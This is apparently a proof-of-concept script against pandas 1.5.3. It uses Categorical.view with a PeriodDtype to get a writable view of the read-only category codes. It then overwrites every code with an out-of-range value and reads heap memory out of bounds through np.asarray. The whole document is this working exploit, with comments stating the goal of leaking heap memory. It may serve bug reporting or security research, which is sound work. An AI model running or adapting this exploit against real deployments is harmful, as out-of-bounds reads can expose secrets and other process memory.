# source: pandas 1.5.3 pandas/core/arrays/_mixins.py NDArrayBackedExtensionArray.view (inherited by Categorical) returns self._ndarray.view(dtype): a writable view of the codes that Categorical.codes hands out read-only; take_nd (pandas/_libs/algos_take_helper) then indexes the categories with them unchecked
# family: Categorical.view(PeriodDtype) returns a PeriodArray over the codes' memory; its __setitem__ writes the codes
# goal: set every code to 0x20 (out of range of 8 categories) and read heap memory through np.asarray(cat)
import numpy as np
import pandas as pd

cat = pd.Categorical([0, 1, 2, 3, 4, 5, 6, 7], categories=[10, 11, 12, 13, 14, 15, 16, 17])
d = cat.view(pd.PeriodDtype("D"))
print(type(d))
d[0] = pd.Period(ordinal=0x2020202020202020, freq="D")
print([hex(int(v)) for v in np.asarray(cat)])
